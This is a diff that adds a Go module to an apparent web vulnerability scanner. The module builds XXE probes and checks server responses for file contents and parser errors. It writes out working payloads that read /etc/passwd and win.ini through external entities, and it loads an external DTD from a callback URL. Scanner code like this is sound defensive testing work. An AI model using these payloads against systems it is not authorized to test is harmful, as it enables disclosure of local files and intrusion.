@@ -0,0 +1,145 @@
+package scan
+
+import (
+	"bytes"
+	"fmt"
+	"proxy/internal/insertion"
+	"proxy/internal/network"
+	"proxy/internal/web-api/models"
+	"regexp"
+)
+
+const (
+	XXEInternalEntity = "internal_entity"
+	XXEFileUnix       = "file_unix"
+	XXEFileWindows    = "file_windows"
+	XXEErrorBased     = "error_based"
+	XXEParameter      = "parameter_entity"
+
+	IssueXXE           = "xxe"
+	IssueXMLEntities   = "xml_entity_expansion"
+	IssueXMLParseError = "xml_error_disclosure"
+
+	entityName = "xxeprobe"
+)
+
+var (
+	fileSignatures = map[string]*regexp.Regexp{
+		XXEFileUnix:    regexp.MustCompile(`root:[^:\n]*:0:0:`),
+		XXEFileWindows: regexp.MustCompile(`(?i)\[(fonts|extensions|mci extensions)\]`),
+	}
+
+	parserErrors = regexp.MustCompile(`(?i)failed to load external entity|external entit(y|ies)|` +
+		`doctype is disallowed|SAXParseException|XMLSyntaxError|XmlException|java\.io\.FileNotFoundException|` +
+		`no such file or directory|simplexml_load_string|DOMDocument::loadXML|undefined entity`)
+)
+
+// XXEProbe is a DOCTYPE declaring a single, non-nested entity, plus its reference in one leaf.
+type XXEProbe struct {
+	Name      string
+	Leaf      *insertion.XMLNode
+	Doctype   string
+	Reference string
+	Marker    string
+}
+
+func (probe *XXEProbe) Payload() string {
+	return probe.Doctype + probe.Reference
+}
+
+// XXEProbes builds the in-band probes for every leaf of doc, file probes last.
+func XXEProbes(doc *insertion.XMLDocument, marker, missing string) []*XXEProbe {
+	reference := "&" + entityName + ";"
+	probes := make([]*XXEProbe, 0)
+
+	for _, leaf := range doc.Leaves() {
+		probes = append(probes,
+			&XXEProbe{
+				Name: XXEInternalEntity,
+				Leaf: leaf,
+				// The character reference keeps the expanded text out of a reflected raw body.
+				Doctype:   doctype(doc.Root(), fmt.Sprintf(`<!ENTITY %s "xxe&#45;%s">`, entityName, marker)),
+				Reference: reference,
+				Marker:    "xxe-" + marker,
+			},
+			&XXEProbe{
+				Name:      XXEErrorBased,
+				Leaf:      leaf,
+				Doctype:   doctype(doc.Root(), fmt.Sprintf(`<!ENTITY %s SYSTEM "file://%s">`, entityName, missing)),
+				Reference: reference,
+				Marker:    missing,
+			},
+			&XXEProbe{
+				Name:      XXEFileUnix,
+				Leaf:      leaf,
+				Doctype:   doctype(doc.Root(), fmt.Sprintf(`<!ENTITY %s SYSTEM "file:///etc/passwd">`, entityName)),
+				Reference: reference,
+			},
+			&XXEProbe{
+				Name:      XXEFileWindows,
+				Leaf:      leaf,
+				Doctype:   doctype(doc.Root(), fmt.Sprintf(`<!ENTITY %s SYSTEM "file:///c:/windows/win.ini">`, entityName)),
+				Reference: reference,
+			},
+		)
+	}
+
+	return probes
+}
+
+// XXEParameterProbe loads an external DTD from the callback URL through a parameter entity.
+func XXEParameterProbe(doc *insertion.XMLDocument, callbackURL string) *XXEProbe {
+	return &XXEProbe{
+		Name:    XXEParameter,
+		Doctype: doctype(doc.Root(), fmt.Sprintf(`<!ENTITY %% %s SYSTEM "%s"> %%%s;`, entityName, callbackURL, entityName)),
+	}
+}
+
+func doctype(root, subset string) string {
+	return fmt.Sprintf("<!DOCTYPE %s [%s]>", root, subset)
+}
+
+// XXERequest returns a copy of req with the probe applied to doc.
+func XXERequest(req *network.HTTPRequest, doc *insertion.XMLDocument, probe *XXEProbe) *network.HTTPRequest {
+	probed := req.Clone()
+	probed.PostParams = nil
+	probed.Header.Del("Content-Encoding")
+
+	if probe.Leaf != nil {
+		probed.Body = doc.Render(probe.Doctype, probe.Leaf, probe.Reference)
+	} else {
+		probed.Body = doc.Render(probe.Doctype, nil, "")
+	}
+
+	return probed
+}
+
+// CheckXXE reports what the probe response discloses beyond the baseline response.
+func CheckXXE(probe *XXEProbe, baseline []byte, response *network.HTTPResponse) (string, string, string) {
+	body := response.Body
+
+	switch probe.Name {
+	case XXEInternalEntity:
+		if bytes.Contains(body, []byte(probe.Marker)) {
+			return IssueXMLEntities, models.SeverityMedium, "internal entity was expanded into the response"
+		}
+	case XXEFileUnix, XXEFileWindows:
+		signature := fileSignatures[probe.Name]
+		if match := signature.Find(body); match != nil && !signature.Match(baseline) {
+			return IssueXXE, models.SeverityHigh, "external entity disclosed a local file: " + string(match)
+		}
+	case XXEErrorBased:
+		match := parserErrors.Find(body)
+		if match == nil || parserErrors.Match(baseline) {
+			break
+		}
+
+		if bytes.Contains(body, []byte(probe.Marker)) {
+			return IssueXXE, models.SeverityMedium, "parser tried to resolve the external entity: " + string(match)
+		}
+
+		return IssueXMLParseError, models.SeverityLow, "XML parser error disclosed: " + string(match)
+	}
+
+	return "", "", ""
+}